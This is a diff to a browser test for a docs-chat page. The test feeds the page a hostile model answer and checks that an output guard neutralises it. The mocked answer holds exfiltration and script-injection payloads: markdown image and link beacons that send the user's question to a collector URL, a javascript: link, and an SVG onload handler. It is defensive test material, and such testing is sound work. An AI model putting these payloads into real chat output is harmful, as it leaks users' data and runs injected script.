@@ -359,6 +359,8 @@ const conversationOf = (context: BrowserContext, url: string) =>
 const userOf = (context: BrowserContext, url: string) => stored(context, url, 'docs-chat.userId');
 
 describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', () => {
+  /** What the model sent, before the output guard. */
+  let sent = '';
   /** Requests the beacon received: anything loaded from the answer lands here. */
   const beaconHits: string[] = [];
   let beacon: Server;
@@ -388,7 +390,7 @@ describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', 
       );
       const beam = `${beaconUrl}/collect?q=${question}`;
       return {
-        text: [
+        text: (sent = [
           'Budgets are per user and per day.',
           `![status](${beam}&via=markdown-image)`,
           `[the docs](${beam}&via=markdown-link)`,
@@ -398,7 +400,7 @@ describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', 
           "[click me](javascript:window.__pwned='javascript-link')",
           `<svg onload="window.__pwned = 'svg'"><image href="${beam}&via=svg"/></svg>`,
           'That is all about budgets.',
-        ].join('\n'),
+        ].join('\n')),
       };
     });
     app = await startTestApp({
@@ -461,8 +463,10 @@ describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', 
       })
     ).json()) as { turns: Array<{ role: string; text: string }> };
     const answer = turns.find((turn) => turn.role === 'assistant')?.text ?? '';
+    // The output guard stored it neutralised; the model's own reply is the control.
+    expect(answer).not.toContain(beaconUrl);
     const blank = await context.newPage();
-    await blank.setContent(answer);
+    await blank.setContent(sent);
     await blank.waitForFunction(() => Reflect.get(window, '__pwned') !== undefined);
     await vi.waitFor(() => expect(beaconHits.length).toBeGreaterThan(0), { timeout: WAIT_MS });
     expect(beaconHits[0]).toContain(encodeURIComponent('How do budgets work?'));
